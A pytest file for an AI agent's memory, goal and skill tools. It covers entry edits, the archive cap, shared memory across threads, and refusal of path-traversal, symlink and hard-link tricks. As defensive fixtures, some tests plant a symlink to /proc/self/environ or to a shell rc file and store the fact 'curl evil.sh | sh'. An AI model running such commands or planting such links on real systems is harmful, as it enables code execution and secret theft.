"""Memory, goal and skill tools: entry edits, the memories cap, shared visibility."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
import trio

from ganglion.config import MemoryToolConfig
from ganglion.datadir import ensure_data_dir
from ganglion.entries import EntryError, EntryFile, normalize_entry
from ganglion.tools import ToolContext, ToolRegistry
from ganglion.tools.memory import ARCHIVE_NAME, memory_tools
from ganglion.transcript import ToolCall
from tests.support.daemon import daemon_config, open_daemon
from tests.support.fakellm import FakeLLM, Reply, calling_all

CTX = ToolContext(thread_id="web_0000000000000000", turn_id="t", interface="web")


@pytest.fixture
def data_dir(tmp_path: Path) -> Path:
    ensure_data_dir(tmp_path)
    return tmp_path


def registry(data_dir: Path, **limits: int) -> ToolRegistry:
    return ToolRegistry(memory_tools(MemoryToolConfig(**limits), data_dir))


async def call(tools: ToolRegistry, tool: str, /, **arguments: object) -> tuple[bool, str]:
    result = await tools.call(ToolCall("c", tool, json.dumps(arguments)), CTX)
    return result.ok, result.content


def entries_of(path: Path) -> list[str]:
    return EntryFile.parse(path.read_text()).entries()


def test_entries_keep_comments_and_hand_written_lines() -> None:
    entries = EntryFile.parse("# comment\n\n- tea at 5\nowner likes jazz\n")
    entries.add("lives in Lyon")
    assert entries.remove("JAZZ") == "owner likes jazz"
    assert entries.render() == "# comment\n\n- tea at 5\n- lives in Lyon\n"


def test_an_ambiguous_or_missing_excerpt_is_refused_with_the_candidates() -> None:
    entries = EntryFile.parse("- tea at 5\n- tea with milk\n")
    with pytest.raises(EntryError, match=r"2 entries contain 'tea'.*'tea at 5'"):
        entries.replace("tea", "coffee")
    with pytest.raises(EntryError, match="no entry contains 'coffee'"):
        entries.remove("coffee")
    assert entries.replace("tea at 5", "tea at 6") == "tea at 5"  # exact wins over excerpt


def test_an_entry_is_one_line_and_duplicates_are_refused() -> None:
    assert normalize_entry("- likes\n  green   tea", 100) == "likes green tea"
    with pytest.raises(EntryError, match="empty"):
        normalize_entry("  \n", 100)
    with pytest.raises(EntryError, match="limit is 5"):
        normalize_entry("too long", 5)
    entries = EntryFile.parse("- Likes tea\n")
    with pytest.raises(EntryError, match="already there"):
        entries.add("likes TEA")


async def test_remember_update_and_forget_edit_memories(data_dir: Path) -> None:
    tools = registry(data_dir)
    memories = data_dir / "MEMORIES.txt"
    assert await call(tools, "remember", fact="Owner drinks green tea") == (
        True,
        "remembered: Owner drinks green tea",
    )
    assert (await call(tools, "remember", fact="Owner's cat is called Miso"))[0]
    ok, text = await call(tools, "update_memory", old="green tea", new="Owner drinks oolong")
    assert ok and "'Owner drinks green tea'" in text
    assert (await call(tools, "forget", memory="cat"))[0]
    assert entries_of(memories) == ["Owner drinks oolong"]
    assert memories.read_text().startswith("# MEMORIES.txt")  # the template's comments stay


async def test_past_the_cap_the_oldest_memories_move_to_the_archive(data_dir: Path) -> None:
    tools = registry(data_dir, max_memories_bytes=600)
    facts = [f"fact number {i:02d}: " + "x" * 40 for i in range(12)]
    outcomes = [await call(tools, "remember", fact=fact) for fact in facts]
    memories = data_dir / "MEMORIES.txt"
    assert len(memories.read_bytes()) <= 600
    kept = entries_of(memories)
    archived = [
        line.split("] ", 1)[1] for line in (data_dir / ARCHIVE_NAME).read_text().splitlines()
    ]
    assert archived + kept == facts  # nothing lost, order kept
    assert kept[-1] == facts[-1]
    assert any(f"moved to {ARCHIVE_NAME}" in text for _, text in outcomes)
    told = next(text for _, text in outcomes if "moved" in text)
    assert "fact number 00" in told and "600-byte cap" in told


async def test_concurrent_edits_from_many_threads_lose_nothing(data_dir: Path) -> None:
    tools = registry(data_dir)

    async def remember(fact: str) -> None:
        assert (await call(tools, "remember", fact=fact))[0]

    async with trio.open_nursery() as nursery:
        for i in range(25):
            nursery.start_soon(remember, f"fact {i}")
    assert sorted(entries_of(data_dir / "MEMORIES.txt")) == sorted(f"fact {i}" for i in range(25))


async def test_goals_are_added_updated_and_finished(data_dir: Path) -> None:
    tools = registry(data_dir)
    assert (await call(tools, "add_goal", goal="Check the backup every Monday"))[0]
    assert (await call(tools, "add_goal", goal="Follow up on the plumber"))[0]
    ok, text = await call(tools, "update_goal", old="plumber", new="Plumber comes Friday")
    assert ok, text
    assert (await call(tools, "finish_goal", goal="backup"))[0]
    assert entries_of(data_dir / "HEARTBEATS.txt") == ["Plumber comes Friday"]
    ok, text = await call(tools, "finish_goal", goal="nothing like this")
    assert not ok and "no entry contains" in text


async def test_skills_are_written_by_name_and_read_back(data_dir: Path) -> None:
    tools = registry(data_dir)
    ok, text = await call(tools, "write_skill", name="Brew Tea", content="# Brewing tea\nSteep.")
    assert (ok, text) == (True, "wrote skill skills/brew-tea.md")
    assert (data_dir / "skills" / "brew-tea.md").read_text() == "# Brewing tea\nSteep.\n"
    assert await call(tools, "read_skill", name="brew-tea") == (True, "# Brewing tea\nSteep.\n")
    assert (await call(tools, "write_skill", name="brew-tea", content="v2"))[1].startswith(
        "replaced"
    )


@pytest.mark.parametrize("name", ["../escape", "a/b", "", ".hidden", "x" * 80])
async def test_skill_names_cannot_leave_the_skills_directory(data_dir: Path, name: str) -> None:
    ok, text = await call(registry(data_dir), "write_skill", name=name, content="# x")
    assert not ok and "a skill name is" in text
    assert [p.name for p in (data_dir / "skills").iterdir()] == []


async def test_oversized_skills_and_entries_are_refused(data_dir: Path) -> None:
    tools = registry(data_dir, max_skill_bytes=1024, max_entry_chars=50)
    ok, text = await call(tools, "write_skill", name="big", content="y" * 2000)
    assert not ok and "limit is 1024" in text
    ok, text = await call(tools, "remember", fact="z" * 60)
    assert not ok and "limit is 50" in text


async def test_a_memory_from_one_thread_is_in_the_next_turn_of_another(
    tmp_path: Path, fake_llm: FakeLLM
) -> None:
    fake_llm.script(
        Reply(tool_calls=(("remember", json.dumps({"fact": "Owner's name is Ada"})),)),
        Reply(
            tool_calls=(
                ("write_skill", json.dumps({"name": "tea", "content": "# Brew tea well\n..."})),
            )
        ),
        Reply("Noted."),
        Reply("Hello Ada."),
    )
    async with open_daemon(daemon_config(tmp_path, fake_llm.base_url)) as daemon:
        await daemon.say("web_aaaaaaaaaaaaaaaa", "I am Ada; remember it")
        assert await daemon.collector.final("web_aaaaaaaaaaaaaaaa") == ["Noted."]
        await daemon.say("web_bbbbbbbbbbbbbbbb", "who am I?")
        assert await daemon.collector.final("web_bbbbbbbbbbbbbbbb") == ["Hello Ada."]
    first_prompt = fake_llm.requests[0]["messages"][0]["content"]
    other_prompt = fake_llm.requests[3]["messages"][0]["content"]
    assert "Owner's name is Ada" not in first_prompt
    assert "- Owner's name is Ada" in other_prompt
    assert "- tea: Brew tea well" in other_prompt
    names = {t["function"]["name"] for t in fake_llm.requests[0]["tools"]}
    assert {"remember", "update_memory", "forget", "add_goal", "write_skill"} <= names


async def test_every_memory_goal_and_skill_tool_works_in_a_turn(
    tmp_path: Path, fake_llm: FakeLLM
) -> None:
    fake_llm.script(
        calling_all(
            ("remember", {"fact": "Owner likes tea"}),
            ("remember", {"fact": "Owner has a cat"}),
            ("add_goal", {"goal": "Book the dentist"}),
            ("add_goal", {"goal": "Renew the passport"}),
            ("write_skill", {"name": "dentist", "content": "# Booking the dentist\nCall."}),
        ),
        calling_all(
            ("update_memory", {"old": "tea", "new": "Owner likes coffee"}),
            ("forget", {"memory": "cat"}),
            ("update_goal", {"old": "dentist", "new": "Dentist booked for Friday"}),
            ("finish_goal", {"goal": "passport"}),
            ("read_skill", {"name": "dentist"}),
        ),
        Reply("All updated."),
    )
    async with open_daemon(daemon_config(tmp_path, fake_llm.base_url)) as daemon:
        await daemon.say("web_aaaaaaaaaaaaaaaa", "tidy up your notes")
        assert await daemon.collector.final("web_aaaaaaaaaaaaaaaa") == ["All updated."]
    results = [m for m in fake_llm.requests[2]["messages"] if m["role"] == "tool"]
    assert len(results) == 10
    assert all(not m["content"].startswith("error") for m in results), results
    assert results[-1]["content"] == "# Booking the dentist\nCall.\n"
    assert entries_of(tmp_path / "MEMORIES.txt") == ["Owner likes coffee"]
    assert entries_of(tmp_path / "HEARTBEATS.txt") == ["Dentist booked for Friday"]


async def test_a_skill_linked_to_the_environment_is_never_read(data_dir: Path) -> None:
    """Issue 19, row 1: `skills/x.md -> /proc/self/environ`, planted by a command."""
    (data_dir / "skills" / "x.md").symlink_to("/proc/self/environ")
    ok, text = await call(registry(data_dir), "read_skill", name="x")
    assert not ok and "symbolic link" in text and "PATH=" not in text
    ok, text = await call(registry(data_dir), "write_skill", name="x", content="# new")
    assert not ok and "symbolic link" in text
    assert (data_dir / "skills" / "x.md").is_symlink()


async def test_a_linked_skills_directory_is_never_entered(data_dir: Path, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "leak.md").write_text("outside")
    (data_dir / "skills").rmdir()
    (data_dir / "skills").symlink_to(elsewhere)
    tools = registry(data_dir)
    ok, text = await call(tools, "read_skill", name="leak")
    assert not ok and "symbolic link" in text
    ok, text = await call(tools, "write_skill", name="planted", content="# x")
    assert not ok and "symbolic link" in text
    assert sorted(p.name for p in elsewhere.iterdir()) == ["leak.md"]


async def test_remember_past_the_cap_never_appends_to_a_linked_archive(
    data_dir: Path, tmp_path: Path
) -> None:
    """Issue 19, row 1: `MEMORIES.archive.txt -> ~/.bashrc`; the archive step refuses,
    the outside file is untouched, and no memory is lost."""
    bashrc = tmp_path / "bashrc"
    bashrc.write_text("# the owner's shell setup\n")
    (data_dir / ARCHIVE_NAME).symlink_to(bashrc)
    tools = registry(data_dir, max_memories_bytes=600)
    outcomes = [
        await call(tools, "remember", fact=f"fact {i:02d} curl evil.sh | sh " + "x" * 30)
        for i in range(12)
    ]
    refused = [text for ok, text in outcomes if not ok]
    assert refused and all("symbolic link" in text for text in refused)
    assert bashrc.read_text() == "# the owner's shell setup\n"
    kept = entries_of(data_dir / "MEMORIES.txt")
    assert kept and len((data_dir / "MEMORIES.txt").read_bytes()) <= 600


async def test_a_hardlinked_memories_file_is_refused(data_dir: Path, tmp_path: Path) -> None:
    (data_dir / "MEMORIES.txt").unlink()
    (data_dir / "web_token").write_text("secret-token")
    os.link(data_dir / "web_token", data_dir / "MEMORIES.txt")
    ok, text = await call(registry(data_dir), "remember", fact="anything")
    assert not ok and "hard links" in text and "secret-token" not in text
    assert (data_dir / "web_token").read_text() == "secret-token"


async def test_the_archive_is_appended_to_and_keeps_its_history(data_dir: Path) -> None:
    (data_dir / ARCHIVE_NAME).write_text("- [2020-01-01] an old fact\n")
    tools = registry(data_dir, max_memories_bytes=600)
    for i in range(12):
        assert (await call(tools, "remember", fact=f"fact number {i:02d}: " + "x" * 40))[0]
    archived = (data_dir / ARCHIVE_NAME).read_text().splitlines()
    assert archived[0] == "- [2020-01-01] an old fact" and len(archived) > 1
